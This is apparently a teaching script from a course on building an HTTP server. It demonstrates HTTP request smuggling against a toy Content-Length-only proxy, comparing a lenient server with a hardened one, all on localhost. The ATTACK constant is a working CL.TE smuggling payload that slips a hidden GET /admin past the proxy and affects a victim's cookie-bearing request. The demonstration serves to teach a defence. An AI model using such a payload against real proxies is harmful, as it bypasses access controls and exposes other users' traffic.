"""A request hidden in another one's body, and who gets the answer to it.

A gate lets nobody come to /admin. It carries the requests of all its clients over one
connection to the server behind it, and goes by Content-Length alone.

python experiments/smuggle.py            behind the gate: first/serve.py
python experiments/smuggle.py --guard    behind the gate: the real server
"""

import http.client
import re
import runpy
import socket
import sys
import threading
from pathlib import Path

from httpserver import Request, Response, Server, listen

FIRST = Path(__file__).parent.parent / "first" / "serve.py"

HIDDEN = b"GET /admin HTTP/1.1\r\nX-Rest: "
BODY = b"0\r\n\r\n" + HIDDEN
ATTACK = (
    b"POST /search HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n" % len(BODY) + BODY
)
VICTIM = b"GET /news HTTP/1.1\r\nHost: a\r\nCookie: session=victim\r\n\r\n"


class Gate:
    """A proxy of one page. Never heard of chunks, so it passes that field on as any other."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.address = address
        self.server = socket.create_connection(address, timeout=5)

    def ask(self, data: bytes) -> str:
        head, _, rest = data.partition(b"\r\n\r\n")
        length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
        body = rest[: int(length[1]) if length else 0]
        line = head.partition(b"\r\n")[0].decode()
        print(f"  the gate sees {line!r}, and {len(body)} bytes of body")
        if line.split()[1].startswith("/admin"):
            return "403, refused by the gate"
        self.server.sendall(head + b"\r\n\r\n" + body)
        answer = http.client.HTTPResponse(self.server)
        answer.begin()
        text = answer.read().decode().replace("\n", " ").strip()
        if answer.will_close:
            self.server.close()
            self.server = socket.create_connection(self.address, timeout=5)
        return f"{answer.status}, {text}"


def lenient(listener: socket.socket) -> None:
    """One client of the first version, up to its end."""
    first = runpy.run_path(str(FIRST))
    client, _address = listener.accept()
    with client:
        stream = first["Stream"](client)
        try:
            while first["answer"](stream):
                pass
        except ConnectionError:
            pass


def page(request: Request) -> Response:
    text = f"<h1>{request.target}</h1> by {request.method}, at {request.headers['host']}\n"
    return Response(200, [("Content-Type", "text/html")], text.encode("latin-1"))


def converse(address: tuple[str, int]) -> None:
    gate = Gate(address)
    print("The attacker asks for /search.")
    print("  the attacker hears:", gate.ask(ATTACK))
    print("Somebody else asks for /news.")
    print("  somebody else hears:", gate.ask(VICTIM))
    gate.server.close()


if "--guard" in sys.argv:
    listener = listen("127.0.0.1:0")
    server = Server(page, [listener])
    running = threading.Thread(target=server.run)
    running.start()
    converse(listener.getsockname())
    server.stop()
else:
    listener = socket.create_server(("127.0.0.1", 0))
    running = threading.Thread(target=lenient, args=[listener])
    running.start()
    converse(listener.getsockname())
running.join()
